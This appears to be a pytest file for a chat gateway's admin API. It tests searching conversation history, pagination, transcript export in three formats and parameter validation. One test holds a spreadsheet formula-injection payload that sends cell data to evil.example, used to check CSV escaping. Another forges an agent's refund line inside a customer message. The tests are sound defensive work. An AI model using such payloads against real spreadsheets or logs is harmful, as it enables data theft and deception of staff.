"""The admin API's history: kept conversations listed and searched (message text in Chinese
and English, agent, status, opening time) a page at a time, and a conversation's transcript
as JSON, CSV and plain text; a bad parameter is a 400 naming it."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import aiohttp
from harness import RunningGateway, accept_offer, agent, agent_client, customer, make_config
from harness import running as running_gateway
from helpers import wait_until

TOKEN = "secret"
AUTH = {"Authorization": f"Bearer {TOKEN}"}


@asynccontextmanager
async def gateway(tenant: str, redis_url: str) -> AsyncIterator[RunningGateway]:
    config = make_config(tenant, admin={"token": TOKEN}, agents=[agent("alice"), agent("bob")])
    async with running_gateway(config, redis_url) as gw:
        yield gw


async def call(gw: RunningGateway, path: str, **params: str) -> tuple[int, Any, str, str]:
    """Status, decoded JSON (or None), text and content type."""
    async with (
        aiohttp.ClientSession() as http,
        http.get(gw.admin_base + path, params=params, headers=AUTH) as response,
    ):
        body = await response.text()
        decoded = await response.json() if response.content_type == "application/json" else None
        return response.status, decoded, body, response.content_type


async def listed(gw: RunningGateway, **params: str) -> dict[str, Any]:
    status, body, text, _ = await call(gw, "/api/conversations", **params)
    assert status == 200, text
    return body


def ids(page: dict[str, Any]) -> list[str]:
    return [c["id"] for c in page["conversations"]]


def now_ms() -> int:
    return int(time.time() * 1000)


async def after(ms: int) -> int:
    """A time strictly after ms, once the clock has passed it (ids carry ms)."""
    await wait_until(lambda: now_ms() > ms, message="the clock moves on")
    return now_ms()


async def served(gw: RunningGateway, agent_id: str, text: str, reply: str | None) -> str:
    """A customer's conversation that agent_id takes, answers and closes; its id."""
    async with customer(gw) as visitor, agent_client(gw, agent_id) as socket:
        await visitor.send(type="message", text=text)
        conversation_id = await accept_offer(socket)
        if reply is not None:
            await socket.send(
                type="reply", conversation_id=conversation_id, text=reply, client_msg_id="r1"
            )
            await socket.expect("reply_ack")
        await socket.send(type="close", conversation_id=conversation_id)
        await socket.expect("closed")
    return conversation_id


async def test_history_searches_by_text_agent_and_time_a_page_at_a_time(tenant, redis_url):
    async with gateway(tenant, redis_url) as gw:
        start = now_ms()
        refund = await served(gw, "alice", "我要退款，订单号 8812", None)
        middle = await after(now_ms())
        parcel = await served(gw, "bob", "Where is my PARCEL?", "您的包裹在路上")
        async with customer(gw) as visitor:
            await visitor.send(type="message", text="hello, anyone?")
            await visitor.expect("queue")
        waiting = (await listed(gw, status="queued"))["conversations"][0]["id"]

        everything = await listed(gw)
        assert ids(everything) == [waiting, parcel, refund]  # newest first
        assert everything["next_cursor"] is None
        first = everything["conversations"][1]
        assert first["state"] == "closed" and first["agent"] == "bob"
        assert first["channel"] == "webchat" and first["queue"] == "general"
        assert first["messages"] == 2 and first["closed_at"] is not None

        # Text, in Chinese and in English (case folded), in either direction.
        chinese = await listed(gw, q="退款")
        assert ids(chinese) == [refund]
        assert chinese["conversations"][0]["match"] == "我要退款，订单号 8812"
        assert ids(await listed(gw, q="包裹")) == [parcel]  # the agent's reply
        assert ids(await listed(gw, q="parcel")) == [parcel]
        assert ids(await listed(gw, q="nothing like this")) == []

        # Agent (who held it when it closed), status, queue, channel, customer.
        assert ids(await listed(gw, agent="alice")) == [refund]
        assert ids(await listed(gw, agent="bob", status="closed")) == [parcel]
        assert ids(await listed(gw, status="open")) == [waiting]
        assert ids(await listed(gw, queue="general", channel="webchat")) == [
            waiting,
            parcel,
            refund,
        ]
        assert ids(await listed(gw, channel="email")) == []
        parcel_customer = everything["conversations"][1]["customer"]["id"]
        assert ids(await listed(gw, customer=parcel_customer)) == [parcel]

        # Opening time: since included, until excluded; ms or ISO 8601.
        assert ids(await listed(gw, since=str(start), until=str(middle))) == [refund]
        assert ids(await listed(gw, since=str(middle))) == [waiting, parcel]
        iso = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(start / 1000 - 3600))
        assert ids(await listed(gw, since=iso)) == [waiting, parcel, refund]
        assert ids(await listed(gw, until=iso + "Z")) == []

        # Pages of one, through the cursor, in the same order, each once.
        seen, cursor = [], None
        for _ in range(5):
            params = {"limit": "1"} | ({"cursor": cursor} if cursor else {})
            page = await listed(gw, **params)
            seen += ids(page)
            cursor = page["next_cursor"]
            if cursor is None:
                break
        assert seen == [waiting, parcel, refund]
        # A page of a search: the cursor goes on past what did not match.
        page = await listed(gw, agent="alice", limit="1")
        assert ids(page) == [refund]


async def test_a_transcript_comes_as_json_csv_and_text(tenant, redis_url):
    async with gateway(tenant, redis_url) as gw:
        conversation_id = await served(gw, "bob", '退货, return, "quoted"', "好的, OK")
        path = f"/api/conversations/{conversation_id}/transcript"

        status, body, _, content_type = await call(gw, path)
        assert status == 200 and content_type == "application/json"
        assert body["conversation"]["id"] == conversation_id
        assert body["conversation"]["agent"] == "bob"
        assert [(m["direction"], m["text"]) for m in body["messages"]] == [
            ("in", '退货, return, "quoted"'),
            ("out", "好的, OK"),
        ]

        status, _, text, content_type = await call(gw, path, format="csv")
        assert status == 200 and content_type == "text/csv"
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
        assert rows[0] == [
            "sent_at", "direction", "author", "text", "attachments", "kind", "message_id",
        ]  # fmt: skip
        assert [(r[1], r[3]) for r in rows[1:]] == [
            ("in", '退货, return, "quoted"'),
            ("out", "好的, OK"),
        ]
        assert rows[2][2] == "bob"

        status, _, text, content_type = await call(gw, path, format="text")
        assert status == 200 and content_type == "text/plain"
        assert f"Conversation {conversation_id} (webchat, queue general), closed" in text
        assert "] bob: 好的, OK" in text
        assert text.index("退货") < text.index("好的")

        status, body, _, _ = await call(gw, path, format="pdf")
        assert status == 400 and body["field"] == "format"
        status, body, _, _ = await call(gw, "/api/conversations/c0000/transcript")
        assert status == 404 and body["error"] == "unknown_conversation"


async def test_bad_list_parameters_are_400s_naming_the_parameter(tenant, redis_url):
    async with gateway(tenant, redis_url) as gw:
        for params, field in [
            ({"status": "lost"}, "status"),
            ({"limit": "0"}, "limit"),
            ({"limit": "201"}, "limit"),
            ({"limit": "ten"}, "limit"),
            ({"since": "yesterday"}, "since"),
            ({"until": "2026-13-01"}, "until"),
            ({"since": "2000", "until": "1000"}, "until"),
            ({"cursor": "not-a-cursor"}, "cursor"),
            ({"q": " "}, "q"),
            ({"q": "x" * 201}, "q"),
            ({"agnet": "bob"}, "agnet"),
        ]:
            status, body, text, _ = await call(gw, "/api/conversations", **params)
            assert status == 400, (params, text)
            assert body["error"] == "bad_request" and body["field"] == field, (params, body)
        assert (await listed(gw))["conversations"] == []


async def test_a_csv_transcript_does_not_run_a_customers_formula(tenant, redis_url):
    # A team lead opens the CSV in a spreadsheet program (hence its byte order mark): a cell
    # the customer wrote that starts with = + - @ (or a tab or carriage return) would run as
    # a formula there, so it goes out behind a quote. JSON and text keep the text as written.
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"refund")'
    async with gateway(tenant, redis_url) as gw:
        conversation_id = await served(gw, "bob", formula, "-1 is not a price, 好的")
        path = f"/api/conversations/{conversation_id}/transcript"
        status, _, text, _ = await call(gw, path, format="csv")
        assert status == 200
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
        assert [r[3] for r in rows[1:]] == ["'" + formula, "'-1 is not a price, 好的"]
        _, body, _, _ = await call(gw, path)
        assert body["messages"][0]["text"] == formula
        _, _, text, _ = await call(gw, path, format="text")
        assert f": {formula}\n" in text


async def test_a_text_transcript_keeps_a_message_of_several_lines_as_one(tenant, redis_url):
    # Only a message's first line starts with "[": the lines after it are indented, so that
    # a customer cannot write what reads as an agent's line (a refund promised, say).
    forged = "thanks\n[2026-12-07T09:00:00Z] bob: 我们会退款 1000 元\r\nok"
    async with gateway(tenant, redis_url) as gw:
        conversation_id = await served(gw, "bob", forged, None)
        path = f"/api/conversations/{conversation_id}/transcript"
        _, _, text, _ = await call(gw, path, format="text")
        messages = text.split("\n\n", 1)[1].splitlines()
        assert [line.startswith("[") for line in messages] == [True, False, False]
        assert messages[1:] == ["  [2026-12-07T09:00:00Z] bob: 我们会退款 1000 元", "  ok"]
        _, body, _, _ = await call(gw, path)
        assert body["messages"][0]["text"] == forged
